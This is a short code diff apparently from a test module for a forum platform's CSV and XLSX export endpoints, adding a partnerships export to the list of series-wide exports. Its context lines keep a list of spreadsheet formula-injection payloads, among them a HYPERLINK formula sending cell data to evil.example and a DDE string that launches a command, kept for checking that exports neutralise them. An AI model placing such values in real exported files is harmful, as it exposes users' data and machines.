@@ -28,13 +28,14 @@ EXPORTS = {
     "exhibition.leads_export": ["/f/{slug}/exhibitor/leads.csv"],
     "recommendations.export_csv": ["/f/{slug}/manage/recommendations/export.csv"],
     "series.export": ["/series/indicators.csv", "/series/indicators.xlsx"],
+    "partnerships.series_tracker_export": ["/series/partnerships.csv", "/series/partnerships.xlsx"],
     "messages.survey_answers": [
         "/f/{slug}/manage/messages/survey/answers.csv",
         "/f/{slug}/manage/messages/survey/answers.xlsx",
     ],
 }
 #: exports of the whole series, read by a platform admin rather than the forum's organiser
-SERIES_WIDE = {"series.export"}
+SERIES_WIDE = {"series.export", "partnerships.series_tracker_export"}
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR"]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
